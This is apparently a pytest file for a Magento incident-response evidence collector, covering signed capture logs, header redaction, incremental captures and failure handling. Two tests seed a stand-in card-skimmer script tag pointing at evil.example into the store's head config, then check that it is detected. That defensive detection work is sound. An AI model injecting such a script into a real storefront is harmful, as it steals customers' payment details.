"""Collectors against the in-process sandbox: categories, exchanges, since, failures."""

from __future__ import annotations

import hashlib
from collections import Counter
from datetime import UTC, datetime, timedelta, timezone
from typing import TYPE_CHECKING

import httpx
import pytest

from magento_ir import (
    AdminCredentials,
    AuthenticationError,
    ConfigurationError,
    MagentoClient,
    set_testing,
)
from magento_ir.evidence import EvidenceLog, read_records, verify
from magento_ir.evidence.collectors import CATEGORIES, CaptureOptions, capture, redact_headers
from magento_ir.sandbox import Sandbox
from magento_ir.sandbox.module_api import MAX_ADMIN_SESSIONS
from magento_ir.sandbox.state import AdminSession
from tests.evidence.collectors._support import ADMIN, BASE_URL, capture_sandbox, records_of

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from magento_ir.evidence import SigningKey


@pytest.fixture(autouse=True)
def _no_retry_waits() -> Iterator[None]:
    set_testing(True)
    yield
    set_testing(False)


def test_full_capture_writes_every_category_and_verifies(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """A capture records custody around it, every category's entities, and the log verifies."""
    sandbox = Sandbox(customers=30, orders=12)
    path = tmp_path / "capture.log"
    summary = capture_sandbox(sandbox, path, signing_key)

    assert summary.ok
    assert [result.category for result in summary.results] == list(CATEGORIES)
    counts = Counter(record.type for record in read_records(path))
    assert counts["capture.customer"] == 12 + 30
    assert counts["capture.order"] == counts["capture.payment"] == 1 + 12
    assert counts["capture.cms_block"] == 1
    assert counts["capture.cms_page"] == 4
    assert counts["capture.website"] == 2
    assert counts["capture.modules"] == 1
    assert counts["capture.http_exchange"] == summary.exchanges > 10
    for category in ("customers", "orders", "transactions", "invoices", "cms_pages"):
        result = summary.result(category)
        assert result.status == "complete"
        assert result.captured == result.expected
    custody = [record.payload["action"] for record in records_of(path, "custody")]
    assert custody == ["created", "capture_started", "capture_finished"]
    assert verify(path, signing_key.verifier()).ok


def test_base_urls_are_recorded_per_config_path(tmp_path: Path, signing_key: SigningKey) -> None:
    """storeConfigs' base URLs become one capture.config_value record per core_config path."""
    path = tmp_path / "capture.log"
    capture_sandbox(Sandbox(), path, signing_key, categories=["store"])
    values = {r.payload["path"]: r.payload for r in records_of(path, "capture.config_value")}
    assert set(values) >= {"web/unsecure/base_url", "web/secure/base_url"}
    assert values["web/secure/base_media_url"]["source"] == "GET /V1/store/storeConfigs"
    assert values["web/unsecure/base_url"]["store_code"] == "default"


def test_exchange_records_hold_the_body_digest_and_no_credentials(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """Each exchange stores method, URL, redacted headers, status and the body's SHA-256."""
    sandbox = Sandbox()
    path = tmp_path / "capture.log"
    capture_sandbox(sandbox, path, signing_key, categories=["modules"])
    token = sandbox.admin_token()
    with httpx.Client(transport=sandbox.transport(), base_url=BASE_URL) as raw:
        body = raw.get("/rest/V1/modules", headers={"Authorization": f"Bearer {token}"}).content

    exchanges = {
        r.payload["request"]["url"]: r.payload for r in records_of(path, "capture.http_exchange")
    }
    modules = exchanges["/rest/V1/modules"]
    assert modules["request"]["method"] == "GET"
    assert modules["request"]["headers"]["authorization"] == "[REDACTED]"
    assert modules["response"]["status"] == 200
    assert modules["response"]["body_sha256"] == hashlib.sha256(body).hexdigest()
    assert modules["response"]["body_length"] == len(body)
    login = exchanges["/rest/V1/integration/admin/token"]
    assert login["request"]["method"] == "POST"
    assert "body" not in login["request"]


def test_redact_headers_hides_credentials_and_joins_repeats() -> None:
    """Authorization, cookies and secret-named headers keep their names but lose their values."""
    headers = redact_headers(
        [
            ("Authorization", "Bearer abc"),
            ("Cookie", "PHPSESSID=1"),
            ("Set-Cookie", "a=1"),
            ("Set-Cookie", "b=2"),
            ("X-Api-Token", "t"),
            ("Content-Type", "application/json"),
        ]
    )
    assert headers == {
        "authorization": "[REDACTED]",
        "cookie": "[REDACTED]",
        "set-cookie": "[REDACTED], [REDACTED]",
        "x-api-token": "[REDACTED]",
        "content-type": "application/json",
    }


def test_since_captures_only_what_changed_after_it(tmp_path: Path, signing_key: SigningKey) -> None:
    """With since=T only customers updated after T are captured, and the count says so."""
    sandbox = Sandbox(customers=40)
    first = tmp_path / "all.log"
    capture_sandbox(sandbox, first, signing_key, categories=["customers"])
    latest = max(r.payload["updated_at"] for r in records_of(first, "capture.customer"))
    since = datetime.fromisoformat(latest).replace(tzinfo=UTC)
    with MagentoClient(BASE_URL, auth=ADMIN, transport=sandbox.transport()) as client:
        customer = client.customers.retrieve(20)
        client.customers.update(
            20,
            {
                "email": customer.email,
                "firstname": "Changed",
                "lastname": customer.lastname,
                "website_id": customer.website_id,
            },
        )

    changed = tmp_path / "since.log"
    summary = capture_sandbox(sandbox, changed, signing_key, categories=["customers"], since=since)
    captured = records_of(changed, "capture.customer")
    assert [(r.payload["id"], r.payload["firstname"]) for r in captured] == [(20, "Changed")]
    assert summary.result("customers").expected == 1
    started = records_of(changed, "capture.started")[0].payload
    assert started["since"] == since.strftime("%Y-%m-%d %H:%M:%S")


_MODULE_CATEGORIES = ["admin_users", "admin_sessions", "integrations", "config"]


def test_module_categories_are_read_through_the_module(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """With the module: admins, sessions, integrations and §9.7 config rows, without secrets."""
    sandbox = Sandbox(with_module=True)
    with sandbox.lock:
        sandbox.state.admin_sessions = {
            1: AdminSession(1, 1, 1, "2026-11-22 08:00:00", "2026-11-22 08:30:00", "203.0.113.7")
        }
        sandbox.state.set_config(
            "design/head/includes", '<script src="https://evil.example/skim.js"></script>'
        )
        sandbox.state.locked_config[("payment/checkmo/active", "default", 0)] = "1"
    path = tmp_path / "capture.log"
    summary = capture_sandbox(sandbox, path, signing_key, categories=_MODULE_CATEGORIES)

    assert [(r.category, r.status) for r in summary.results] == [
        (category, "complete") for category in _MODULE_CATEGORIES
    ]
    admins = [r.payload for r in records_of(path, "capture.admin_user")]
    assert [a["username"] for a in admins] == ["admin", "support", "catalog"]
    assert records_of(path, "capture.admin_session")[0].payload["ip"] == "203.0.113.7"
    assert len(records_of(path, "capture.integration")) == 2
    rows = {
        (r.payload["path"], r.payload["scope"], r.payload["scope_id"]): r.payload
        for r in records_of(path, "capture.config_value")
    }
    head = rows[("design/head/includes", "default", 0)]
    assert "evil.example/skim.js" in head["value"]
    assert head["source"] == "GET /V1/incident-response/config"
    assert rows[("payment/checkmo/active", "default", 0)]["locked"] is True
    assert summary.result("config").captured == len(rows)
    assert not records_of(path, "capture.not_collected")
    with sandbox.lock:
        secrets = [user.password_hash for user in sandbox.state.admin_users.values()] + [
            i.consumer_secret for i in sandbox.state.integrations.values()
        ]
    text = path.read_text()
    assert not [secret for secret in secrets if secret in text]


def test_admin_sessions_are_incremental_with_since(tmp_path: Path, signing_key: SigningKey) -> None:
    """since sends the module only sessions updated at or after it; a truncated list is partial."""
    sandbox = Sandbox(with_module=True)
    with sandbox.lock:
        sandbox.state.admin_sessions = {
            1: AdminSession(1, 1, 3, "2026-11-20 08:00:00", "2026-11-20 08:30:00", "198.51.100.2"),
            2: AdminSession(2, 2, 1, "2026-11-22 08:00:00", "2026-11-22 08:30:00", "203.0.113.7"),
        }
    path = tmp_path / "capture.log"
    since = datetime(2026, 11, 21, tzinfo=UTC)
    summary = capture_sandbox(
        sandbox, path, signing_key, categories=["admin_sessions"], since=since
    )
    assert [r.payload["id"] for r in records_of(path, "capture.admin_session")] == [2]
    assert summary.result("admin_sessions").expected == 1

    with sandbox.lock:
        sandbox.state.admin_sessions = {
            n: AdminSession(n, 1, 1, "2026-11-22 08:00:00", "2026-11-22 08:30:00", "")
            for n in range(1, MAX_ADMIN_SESSIONS + 2)
        }
    capped = capture_sandbox(
        sandbox, tmp_path / "capped.log", signing_key, categories=["admin_sessions"]
    )
    result = capped.result("admin_sessions")
    assert (result.status, result.captured) == ("partial", MAX_ADMIN_SESSIONS)
    assert "later since" in result.reason


def test_module_categories_without_the_module_say_how_to_get_them(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """Without the module the four categories are not collected, naming the install and tables."""
    path = tmp_path / "capture.log"
    summary = capture_sandbox(Sandbox(), path, signing_key, categories=_MODULE_CATEGORIES)
    reasons = {
        r.payload["category"]: r.payload["reason"]
        for r in records_of(path, "capture.not_collected")
    }
    assert set(reasons) == set(_MODULE_CATEGORIES)
    assert "admin_user_session" in reasons["admin_sessions"]
    assert "composer require magento-ir/module-incident-response" in reasons["config"]
    assert "GET /V1/incident-response/admins" in reasons["admin_users"]
    assert all(result.status == "not_collected" for result in summary.results)
    assert summary.ok


def test_module_without_the_evidence_routes_says_upgrade(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """A module older than the evidence reads (route 404) is named, with its version."""
    sandbox = Sandbox(with_module=True)
    inner = sandbox.transport()

    class OlderModule(httpx.AsyncBaseTransport):
        """The sandbox module as a version without GET integrations: Magento's route 404."""

        async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
            if request.url.path.endswith("/V1/incident-response/integrations"):
                return httpx.Response(404, json={"message": "Request does not match any route."})
            return await inner.handle_async_request(request)

    with EvidenceLog.open(tmp_path / "capture.log", key=signing_key, sync="batch") as log:
        summary = capture(
            log,
            base_url=BASE_URL,
            auth=ADMIN,
            transport=OlderModule(),
            options=CaptureOptions(categories=["integrations"]),
        )
    result = summary.result("integrations")
    assert result.status == "not_collected"
    assert "(version 1.0.0) predates its evidence reads" in result.reason


def test_module_category_without_the_module_says_so(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """Without the companion module there is no action log: recorded, not faked."""
    path = tmp_path / "capture.log"
    summary = capture_sandbox(Sandbox(), path, signing_key, categories=["module"])
    assert summary.result("module").status == "not_collected"
    assert "not installed" in records_of(path, "capture.not_collected")[0].payload["reason"]


def test_storefront_head_shows_an_injected_skimmer(tmp_path: Path, signing_key: SigningKey) -> None:
    """design/head/includes is seen through the rendered storefront <head>, scripts listed."""
    sandbox = Sandbox()
    with sandbox.lock:
        sandbox.state.set_config(
            "design/head/includes", '<script src="https://evil.example/skim.js"></script>'
        )
    path = tmp_path / "capture.log"
    capture_sandbox(sandbox, path, signing_key, categories=["design_config"])
    page = records_of(path, "capture.storefront_page")[0].payload
    assert "https://evil.example/skim.js" in page["head_html"]
    head_scripts = [item["src"] for item in page["scripts"] if item["in_head"] and "src" in item]
    assert "https://evil.example/skim.js" in head_scripts
    assert "design/head/includes" in page["config_paths"]
    fetch = next(
        r.payload
        for r in records_of(path, "capture.http_exchange")
        if r.payload["request"]["url"] == "/"
    )
    assert fetch["request"]["headers"]["user-agent"].startswith("magento-ir/")
    assert "authorization" not in fetch["request"]["headers"]


def test_storefront_that_is_no_html_page_is_not_collected(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """A storefront answering 404 leaves design config not collected, with the status named."""
    path = tmp_path / "capture.log"
    summary = capture_sandbox(
        Sandbox(),
        path,
        signing_key,
        categories=["design_config"],
        storefront_url=f"{BASE_URL}/no-such-shop",
    )
    result = summary.result("design_config")
    assert result.status == "not_collected"
    assert "HTTP 404" in result.reason


def test_failed_category_is_recorded_and_the_capture_goes_on(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """An HTTP failure in one category becomes capture.error; the others are still captured."""
    sandbox = Sandbox(orders=5)
    sandbox.faults.schedule("503", path="/V1/invoices", times=20)
    path = tmp_path / "capture.log"
    summary = capture_sandbox(
        sandbox, path, signing_key, categories=["invoices", "orders"], max_retries=0
    )
    assert not summary.ok
    assert summary.result("invoices").status == "failed"
    assert summary.result("orders").status == "complete"
    errors = records_of(path, "capture.error")
    assert [error.payload["category"] for error in errors] == ["invoices"]
    assert records_of(path, "custody")[-1].payload["action"] == "capture_finished"
    assert verify(path).ok


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"categories": ["orders", "nope"]}, "unknown capture categories ['nope']"),
        ({"categories": "orders"}, "non-empty list of names"),
        ({"categories": []}, "non-empty list of names"),
        ({"since": datetime(2026, 11, 1)}, "timezone-aware"),  # noqa: DTZ001 - the mistake under test
        ({"page_size": 0}, "page_size must be 1-300"),
        ({"concurrency": 99}, "concurrency must be 1-16"),
    ],
)
def test_bad_capture_options_are_refused_with_the_fix(
    options: dict[str, object], message: str
) -> None:
    """Nonsense options raise ConfigurationError naming the option and what is accepted."""
    with pytest.raises(ConfigurationError, match=message.replace("[", r"\[").replace("]", r"\]")):
        CaptureOptions(**options)  # type: ignore[arg-type]


def test_since_is_sent_in_magento_time_format() -> None:
    """since is compared by Magento as 'YYYY-MM-DD HH:MM:SS' in UTC, whatever its zone."""
    paris_winter = timezone(timedelta(hours=1))
    since = datetime(2026, 11, 1, 11, 0, tzinfo=paris_winter)
    assert CaptureOptions(since=since).since_text() == "2026-11-01 10:00:00"


def test_refused_credentials_stop_the_capture_after_closing_records(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """A wrong password raises AuthenticationError; the log still closes the capture, verifies."""
    path = tmp_path / "capture.log"
    with pytest.raises(AuthenticationError):
        capture_sandbox(Sandbox(), path, signing_key, auth=AdminCredentials("admin", "wrong-pass1"))
    types = [record.type for record in read_records(path)]
    assert types[-2:] == ["capture.summary", "custody"]
    assert "wrong-pass1" not in path.read_text(encoding="utf-8")
    assert verify(path).ok


@pytest.mark.anyio
async def test_sync_capture_inside_an_event_loop_points_to_acapture(
    tmp_path: Path, signing_key: SigningKey
) -> None:
    """capture() called where a loop runs (Jupyter) says to await acapture instead."""
    with pytest.raises(ConfigurationError, match="await acapture"):
        capture_sandbox(Sandbox(), tmp_path / "capture.log", signing_key)
